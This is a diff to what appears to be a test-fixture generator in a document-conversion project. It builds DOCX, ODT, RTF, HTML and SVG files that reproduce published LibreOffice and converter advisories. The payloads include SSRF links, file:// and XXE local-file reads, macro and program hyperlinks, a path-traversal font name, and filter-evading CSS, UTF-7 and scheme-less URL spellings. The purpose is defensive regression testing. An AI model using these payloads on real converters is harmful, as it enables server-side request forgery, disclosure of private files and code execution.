@@ -1,6 +1,7 @@
 /**
- * Documents that do what published advisories of document converters and of LibreOffice describe, each made here for the sockets and
- * secrets of one run. README.md beside this file says which advisory is which file and which test.
+ * Documents that reproduce published advisories of document converters and LibreOffice (SSRF, local file
+ * disclosure, script execution), generated for the sockets and secrets of one run. README.md in this folder maps
+ * advisories to files and tests.
  */
 import type { FormatId } from '@filesmith/contract/formats'
 import { image as imageParagraph, paragraph, type Relation, writeDocx } from '../support/write-docx.ts'
@@ -22,16 +23,21 @@ export function advisoryDocuments(targets: Targets): AdvisoryDocument[] {
   return [
     ...linkedDocx(targets),
     ...linkedOdt(targets),
-    ...expandedAddresses(targets),
+    ...expandedUrls(targets),
     ...scriptedLinks(targets),
     ...embeddedFonts(),
-    ...reachingRtf(targets),
-    ...reachingHtml(targets),
-    ...reachingSvg(targets),
+    ...externalRtf(targets),
+    ...externalHtml(targets),
+    ...externalSvg(targets),
   ]
 }
 
-function made(advisory: string, what: string, format: FormatId, content: Buffer | string): AdvisoryDocument {
+function advisoryDocument(
+  advisory: string,
+  what: string,
+  format: FormatId,
+  content: Buffer | string,
+): AdvisoryDocument {
   return { advisory, what, format, content: Buffer.from(content) }
 }
 
@@ -48,7 +54,7 @@ const run = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w
 function linkedDocx({ http, image, text }: Targets): AdvisoryDocument[] {
   const body = words + imageParagraph('a', true) + imageParagraph('b', true)
   return [
-    made(
+    advisoryDocument(
       'GHSA-2mrg-35hw-x3x9 (CVE-2026-55229)',
       'docx: a:blip r:link to a server and to a file',
       'docx',
@@ -57,7 +63,7 @@ function linkedDocx({ http, image, text }: Targets): AdvisoryDocument[] {
         relations: [external('a', 'image', `${http}/blip`), external('b', 'image', `file://${image}`)],
       }),
     ),
-    made(
+    advisoryDocument(
       'GHSA-2mrg-35hw-x3x9 (CVE-2026-55229)',
       'docx: a:blip r:embed of an external relationship',
       'docx',
@@ -66,7 +72,7 @@ function linkedDocx({ http, image, text }: Targets): AdvisoryDocument[] {
         relations: [external('a', 'image', `${http}/embed`), external('b', 'image', `file://${image}`)],
       }),
     ),
-    made(
+    advisoryDocument(
       'GHSA-rm4c-xj6x-49mw (CVE-2026-42591)',
       'docx: every kind of external relationship',
       'docx',
@@ -84,9 +90,9 @@ function linkedDocx({ http, image, text }: Targets): AdvisoryDocument[] {
         ],
       }),
     ),
-    made(
+    advisoryDocument(
       'GHSA-5q7p-7jgv-ww56 (CVE-2026-40280)',
-      'docx: schemes in other letters',
+      'docx: schemes in mixed case',
       'docx',
       writeDocx({
         body,
@@ -96,9 +102,9 @@ function linkedDocx({ http, image, text }: Targets): AdvisoryDocument[] {
         ],
       }),
     ),
-    made(
+    advisoryDocument(
       'Gotenberg 8.34.0, content linked from documents',
-      'docx: fields cut into runs and hidden in alternatives',
+      'docx: fields split into runs and hidden in alternatives',
       'docx',
       writeDocx({
         body: [
@@ -135,16 +141,16 @@ function linkedOdt({ http, image, text }: Targets): AdvisoryDocument[] {
   ].join('')
   const flat = `<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.text"><office:body><office:text><text:p>${visibleWords}</text:p>${body}</office:text></office:body></office:document>`
   return [
-    made(
+    advisoryDocument(
       'GHSA-76hv-h7g2-xfv3 (CVE-2025-55151)',
       'odt: everything a text document links',
       'odt',
       odtPackage(body),
     ),
-    made('Stirling-PDF issue 7628', 'flat ODF, called a page', 'html', flat),
-    made(
+    advisoryDocument('Stirling-PDF issue 7628', 'flat ODF declared as HTML', 'html', flat),
+    advisoryDocument(
       'GHSA-76hv-h7g2-xfv3 (CVE-2025-55151)',
-      'odt: a template, a reload and a list of words elsewhere',
+      'odt: external template, auto-reload and index file',
       'odt',
       odtPackage(
         `<text:alphabetical-index text:name="i"><text:alphabetical-index-source/></text:alphabetical-index><text:alphabetical-index-auto-mark-file xlink:href="file://${text}"/>`,
@@ -153,9 +159,9 @@ function linkedOdt({ http, image, text }: Targets): AdvisoryDocument[] {
         },
       ),
     ),
-    made(
+    advisoryDocument(
       'CVE-2026-63277',
-      'odt: a sheet inside that loads data from elsewhere',
+      'odt: an embedded spreadsheet that loads external data',
       'odt',
       odtPackage(frame('<draw:object xlink:href="./Object 1" xlink:type="simple"/>'), {
         'Object 1/content.xml': `<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2"><office:body><office:spreadsheet><calcext:data-mappings><calcext:data-mapping xlink:href="${http}/data" calcext:provider="sql" calcext:id="jdbc:${http}"/></calcext:data-mappings><table:table table:name="a"><table:table-source xlink:href="file://${text}"/><table:table-row><table:table-cell/></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>`,
@@ -164,8 +170,8 @@ function linkedOdt({ http, image, text }: Targets): AdvisoryDocument[] {
   ]
 }
 
-/** Addresses that LibreOffice fills in from the environment and from ini files before it calls them. */
-function expandedAddresses({ http, image }: Targets): AdvisoryDocument[] {
+/** URLs that LibreOffice expands from environment variables and ini files before it fetches them. */
+function expandedUrls({ http, image }: Targets): AdvisoryDocument[] {
   const address = `${expand}${http}/$HOME/$FILESMITH_CANARY`
   const inPackage = `vnd.sun.star.pkg://${encodeURIComponent(`${expand}file://${image}`)}/`
   const frames = [
@@ -180,22 +186,22 @@ function expandedAddresses({ http, image }: Targets): AdvisoryDocument[] {
     )
     .join('')
   return [
-    made('CVE-2024-12426', 'odt: an image whose address is expanded', 'odt', odtPackage(frames)),
-    made(
+    advisoryDocument('CVE-2024-12426', 'odt: an image with an expanded URL', 'odt', odtPackage(frames)),
+    advisoryDocument(
       'CVE-2024-12426',
-      'docx: an image whose address is expanded',
+      'docx: an image with an expanded URL',
       'docx',
       writeDocx({ body: words + imageParagraph('a', true), relations: [external('a', 'image', address)] }),
     ),
-    made(
+    advisoryDocument(
       'CVE-2026-63278',
-      'html: a package whose address is expanded',
+      'html: a package with an expanded URL',
       'html',
       `<p>${visibleWords}</p><img src="${inPackage}"><img src="${address}">`,
     ),
-    made(
+    advisoryDocument(
       'CVE-2026-63270',
-      'odt: a form whose data is fetched',
+      'odt: a form that fetches its data',
       'odt',
       odtPackage(
         '',
@@ -206,7 +212,7 @@ function expandedAddresses({ http, image }: Targets): AdvisoryDocument[] {
   ]
 }
 
-/** Links that run something, or lead to a file of the machine of whoever opens the result. */
+/** Links that execute something, or open a local file on the machine of the user who opens the result. */
 function scriptedLinks({ http, text }: Targets): AdvisoryDocument[] {
   const addresses = [
     `vnd.libreoffice.command:macro:///Standard.Module1.Main(${http})`,
@@ -218,7 +224,7 @@ function scriptedLinks({ http, text }: Targets): AdvisoryDocument[] {
   ]
   const escaped = addresses.map(address => address.replaceAll('&', '&amp;'))
   return [
-    made(
+    advisoryDocument(
       'CVE-2025-1080',
       'docx: links that are macros and programs',
       'docx',
@@ -234,7 +240,7 @@ function scriptedLinks({ http, text }: Targets): AdvisoryDocument[] {
         relations: escaped.map((address, index) => external(`l${index}`, 'hyperlink', address)),
       }),
     ),
-    made(
+    advisoryDocument(
       'CVE-2025-1080',
       'odt: links, buttons and events that are macros',
       'odt',
@@ -248,13 +254,13 @@ function scriptedLinks({ http, text }: Targets): AdvisoryDocument[] {
           .join(''),
       ),
     ),
-    made(
+    advisoryDocument(
       'CVE-2025-0514',
       'rtf: links that are programs',
       'rtf',
       `{\\rtf1\\ansi ${visibleWords}\\par ${addresses.map(address => `{\\field{\\*\\fldinst HYPERLINK "${address.replaceAll('\\', '\\\\\\\\')}"}{\\fldrslt link}}`).join('')}}`,
     ),
-    made(
+    advisoryDocument(
       'CVE-2025-0514',
       'html: links that are programs',
       'html',
@@ -267,13 +273,13 @@ function embeddedFonts(): AdvisoryDocument[] {
   const font = Buffer.concat([Buffer.from('OTTO'), Buffer.alloc(200)])
   const declared = `<office:font-face-decls><style:font-face style:name="../../../../tmp/escaped-font" svg:font-family="Escaped"><svg:font-face-src><svg:font-face-uri xlink:href="Fonts/a.otf" loext:font-style="normal"><svg:font-face-format svg:string="opentype"/></svg:font-face-uri></svg:font-face-src></style:font-face></office:font-face-decls>`
   return [
-    made(
+    advisoryDocument(
       'CVE-2024-12425',
-      'odt: an embedded font whose name leads out of its folder',
+      'odt: an embedded font whose name is a path traversal',
       'odt',
       odtPackage('', { 'Fonts/a.otf': font }, '', declared),
     ),
-    made(
+    advisoryDocument(
       'CVE-2026-63275, CVE-2026-63276',
       'docx: an embedded font',
       'docx',
@@ -286,12 +292,12 @@ function embeddedFonts(): AdvisoryDocument[] {
   ]
 }
 
-function reachingRtf({ http, image, text }: Targets): AdvisoryDocument[] {
+function externalRtf({ http, image, text }: Targets): AdvisoryDocument[] {
   const rtf = (...instructions: readonly string[]) =>
     `{\\rtf1\\ansi ${visibleWords}\\par ${instructions.map(instruction => `{\\field\\flddirty{\\*\\fldinst ${instruction}}{\\fldrslt result}}\\par `).join('')}}`
   const rest = `"${image}" \\\\d`
   return [
-    made(
+    advisoryDocument(
       'Gotenberg 8.34.0, content linked from documents',
       'rtf: INCLUDEPICTURE padded, split, escaped and nested',
       'rtf',
@@ -309,7 +315,7 @@ function reachingRtf({ http, image, text }: Targets): AdvisoryDocument[] {
         `LINK Word.Document.8 "${text}" \\\\a`,
       ),
     ),
-    made(
+    advisoryDocument(
       'Gotenberg 8.34.0, content linked from documents',
       'rtf: linked shapes, objects, templates and files',
       'rtf',
@@ -318,8 +324,11 @@ function reachingRtf({ http, image, text }: Targets): AdvisoryDocument[] {
   ]
 }
 
-/** What browsers and LibreOffice load of a page, as a reader of the standard sees it and a search for words does not. */
-function reachingHtml({ http, image, text }: Targets): AdvisoryDocument[] {
+/**
+ * Everything that browsers and LibreOffice load from a page, in spellings that a parser understands and a text
+ * search misses.
+ */
+function externalHtml({ http, image, text }: Targets): AdvisoryDocument[] {
   const css = [
     `@\\69mport "${http}/1.css";`,
     `@import url(${http}/2.css);`,
@@ -362,32 +371,37 @@ function reachingHtml({ http, image, text }: Targets): AdvisoryDocument[] {
   const page = (head: string, body: string) =>
     `<!DOCTYPE html><html><head><meta charset="utf-8">${head}</head><body><p>${visibleWords}</p>${body}<p>last words</p></body></html>`
   return [
-    made(
+    advisoryDocument(
       'GHSA-xw8v-9mfm-g2pm (CVE-2025-55150)',
       'html: style sheets with escapes, comments and new functions',
       'html',
       page(`<style>${css}</style>`, '<p>a<b>b</b></p>'),
     ),
-    made(
+    advisoryDocument(
       'GHSA-xw8v-9mfm-g2pm (CVE-2025-55150)',
-      'html: drawings that load',
+      'html: svg elements that load',
       'html',
       page('', `<svg width="99" height="99" xmlns:xlink="http://www.w3.org/1999/xlink">${svg}</svg>`),
     ),
-    made('GHSA-xw8v-9mfm-g2pm (CVE-2025-55150)', 'html: elements that load', 'html', page('', elements)),
-    made(
+    advisoryDocument(
+      'GHSA-xw8v-9mfm-g2pm (CVE-2025-55150)',
+      'html: elements that load',
+      'html',
+      page('', elements),
+    ),
+    advisoryDocument(
       'GHSA-ff33-grr6-rmvp (CVE-2025-55161)',
-      'txt: Markdown with an image elsewhere',
+      'txt: Markdown with an external image',
       'txt',
       `${visibleWords}\n\n![a](${http}/md.png)\n\n<img src="${http}/raw.png">\n`,
     ),
-    made(
+    advisoryDocument(
       'GHSA-xw8v-9mfm-g2pm (CVE-2025-55150)',
-      'html: a page in UTF-7, and one in UTF-16',
+      'html: a page in UTF-7',
       'html',
       `<meta charset="utf-7"><p>${visibleWords}</p>+ADw-img src=+ACI-${http}/7.png+ACI-+AD4-`,
     ),
-    made(
+    advisoryDocument(
       'GHSA-xw8v-9mfm-g2pm (CVE-2025-55150)',
       'html: a page in UTF-16',
       'html',
@@ -396,15 +410,15 @@ function reachingHtml({ http, image, text }: Targets): AdvisoryDocument[] {
   ]
 }
 
-/** Scheme-less addresses in drawings, which are no links for a search for schemes. */
-function reachingSvg({ http, image }: Targets): AdvisoryDocument[] {
+/** URLs without a scheme in SVG, which a search for schemes misses. */
+function externalSvg({ http, image }: Targets): AdvisoryDocument[] {
   const svg = Buffer.from(
     `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://${image}">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100"><image xlink:href="${image}" width="100" height="100"/><image href="${http}/svg.png" x="100" width="100" height="100"/></svg>`,
   )
   return [
-    made(
+    advisoryDocument(
       'GHSA-v97v-3m37-j634',
-      'docx: a drawing that names a file, called an image',
+      'docx: an svg that references a file, named as a PNG',
       'docx',
       writeDocx({
         body: words + imageParagraph('a'),
@@ -412,18 +426,18 @@ function reachingSvg({ http, image }: Targets): AdvisoryDocument[] {
         media: { 'media/a.png': svg },
       }),
     ),
-    made(
+    advisoryDocument(
       'GHSA-v97v-3m37-j634',
-      'odt: a drawing that names a file',
+      'odt: an svg that references a file',
       'odt',
       odtPackage(
         `<text:p><draw:frame svg:width="3cm" svg:height="2cm" text:anchor-type="as-char"><draw:image xlink:href="Pictures/a.svg"/></draw:frame></text:p><text:p><draw:frame svg:width="3cm" svg:height="2cm" text:anchor-type="as-char"><draw:image><office:binary-data>${svg.toString('base64')}</office:binary-data></draw:image></draw:frame></text:p>`,
         { 'Pictures/a.svg': svg },
       ),
     ),
-    made(
+    advisoryDocument(
       'GHSA-v97v-3m37-j634',
-      'html: a drawing that names a file',
+      'html: an svg that references a file',
       'html',
       `<p>${visibleWords}</p><img src="data:image/svg+xml;base64,${svg.toString('base64')}">`,
     ),
